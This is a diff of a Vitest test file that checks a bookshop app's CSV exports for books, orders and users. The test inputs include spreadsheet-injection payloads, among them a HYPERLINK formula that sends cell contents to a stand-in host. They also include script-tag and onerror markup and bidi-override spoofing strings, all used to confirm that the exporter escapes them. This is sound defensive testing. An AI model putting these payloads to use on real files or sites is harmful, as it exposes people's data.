@@ -2,33 +2,38 @@ import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { readBookImportRow } from "#app/features/books/book-import.ts";
 import { mapBookImportColumns } from "#app/features/books/book-import-columns.ts";
+import { pesewasFromCedis } from "#app/lib/money.ts";
 import {
   bookColumns,
   exportFileName,
   headingLine,
   orderColumns,
+  orderTable,
   rowLine,
   userColumns,
 } from "./export-columns.ts";
 
 /** Starts of a cell that a spreadsheet would calculate. */
-const FORMULAS = ["=", "+", "-", "@", "\t", "\r"].map((sign) => `${sign}HYPERLINK("//x.example?"&A1,"Ama")`);
+const FORMULAS = ["=", "+", "-", "@", "＝", "\u00a0=", "\u200b-"].map(
+  (sign) => `${sign}HYPERLINK("//x.example?"&A1,"Ama")`,
+);
 
 /** Markup, signs that turn the writing direction, and what separates cells: all of it is text like any other. */
 const PLAIN_TEXTS = [
   "<img src=x onerror=alert(1)>",
   "</td><script>alert(1)</script>",
-  "Ama \u202eexe.slx\u202c \u2066=1+1\u2069",
+  "Ama \u202eexe.slx\u202c \u20661+1\u2069",
   '"},=1+1,"',
-  "two lines,\r\n=1+1",
+  "two lines,\r\n1+1",
 ];
 
 const book = {
-  id: "b1",
+  id: "0b5c1f1e-0000-4000-8000-00000000000a",
   title: '=Cambridge, “Lower” "Secondary"',
+  authors: 'Ama "Kofi" Ata, Jr; Ɛsi Ébène',
   publisher: "Schofield & Sims",
   isbn: "9780306406157",
-  price: 45.5,
+  price: pesewasFromCedis(45.5),
   stock_quantity: 12,
   course: "Primary",
   subject: "Mathematics",
@@ -45,11 +50,12 @@ const book = {
 
 const order = {
   id: "o1",
+  number: 1042,
   user_id: "u1",
   created_at: "2026-11-20T08:05:06+00:00",
   status: "pending",
   stock_held: true,
-  total_amount: 90,
+  total_amount: pesewasFromCedis(90),
   customer_name: "Ama",
   customer_email: "ama@school.example",
   customer_phone: "+233201234567",
@@ -57,6 +63,12 @@ const order = {
   recipient_email: "store@school.example",
   recipient_phone: "020 123",
   shipping_address: "4 School Lane, Kumasi",
+  title: "Atlas",
+  publisher: "CGP",
+  isbn: "9780306406157",
+  quantity: 2,
+  price: pesewasFromCedis(45),
+  isFirst: true,
 };
 
 const user = {
@@ -79,23 +91,26 @@ describe("the exported tables", () => {
     const [headings = [], cells = []] = parse(
       headingLine(bookColumns) + rowLine(bookColumns, book),
     ) as string[][];
-    const result = readBookImportRow(cells, 2, mapBookImportColumns(headings));
-    const { id, average_rating, review_count, created_at, ...fields } = book;
-    expect(result).toEqual({ row: { line: 2, ...fields }, hints: [] });
+    const result = readBookImportRow({ cells, line: 2 }, mapBookImportColumns(headings));
+    const { average_rating, review_count, created_at, ...fields } = { ...book, price: 45.5 };
+    expect(result).toEqual({ row: { line: 2, cells, problems: [], ...fields }, hints: [] });
   });
 
   it.each([
     ["9780306406157", "978-0-306-40615-7"],
     ["9789990000009", /^978-/],
+    ["978030640615", "978-030640615"],
+    ["AB978030640615", "AB978030640615"],
+    ["978030640615AB", "978030640615AB"],
     ["AB-0001", "AB-0001"],
     [null, ""],
   ])("write the ISBN %j as text that a spreadsheet does not round", (isbn, written) => {
     const [cells = []] = parse(rowLine(bookColumns, { ...book, isbn })) as string[][];
-    expect(cells[2]).toMatch(written instanceof RegExp ? written : new RegExp(`^${written}$`));
+    expect(cells[3]).toMatch(written instanceof RegExp ? written : new RegExp(`^${written}$`));
   });
 
   it.each(tables)(
-    "of %s calculate nothing and change no other text, whatever a person has typed",
+    "of %s hold no formula and change no other text, whatever has been typed",
     (_, columns, row) => {
       const headings = Object.keys(columns);
       const isTyped = (value: unknown) => typeof value === "string" && Number.isNaN(Date.parse(value));
@@ -111,17 +126,25 @@ describe("the exported tables", () => {
     },
   );
 
-  it("write an order with its customer and recipient; a phone number is no formula", () => {
-    expect(rowLine(orderColumns, order)).toBe(
-      'o1,2026-11-20 08:05,pending,90.00,Ama,ama@school.example,\'+233201234567,,store@school.example,020 123,"4 School Lane, Kumasi"\r\n',
+  it("write an order line by line, its total once, so that both columns can be summed", () => {
+    const lines = [
+      { title: "Atlas", publisher: "CGP", isbn: "9780306406157", quantity: 3, price: pesewasFromCedis(20.1) },
+      { title: "=Globe", publisher: null, isbn: null, quantity: 1, price: pesewasFromCedis(29.7) },
+    ];
+    const { isFirst, title, publisher, isbn, quantity, price, ...rest } = order;
+    const head =
+      '1042,o1,2026-11-20 08:05,pending,Ama,ama@school.example,\'+233201234567,,store@school.example,020 123,"4 School Lane, Kumasi"';
+    expect(orderTable.linesOf({ ...rest, lines })).toBe(
+      `${head},Atlas,CGP,978-0-306-40615-7,3,20.10,60.30,90.00\r\n${head},'=Globe,,,1,29.70,29.70,\r\n`,
     );
+    expect(orderTable.linesOf({ ...rest, lines: [] })).toBe(`${head},,,,,,,90.00\r\n`);
   });
 
   it("write a user with the role", () => {
     expect(rowLine(userColumns, user)).toBe("'@Ama,a@b.example,,admin,2026-01-02 00:00,u1\r\n");
   });
 
-  it("are named after what they hold and the day", () => {
+  it("are named after their contents and the date", () => {
     const at = new Date("2026-11-20T23:59:00Z");
     expect(exportFileName("books", false, at)).toBe("books-2026-11-20.csv");
     expect(exportFileName("orders", true, at)).toBe("orders-matching-2026-11-20.csv");
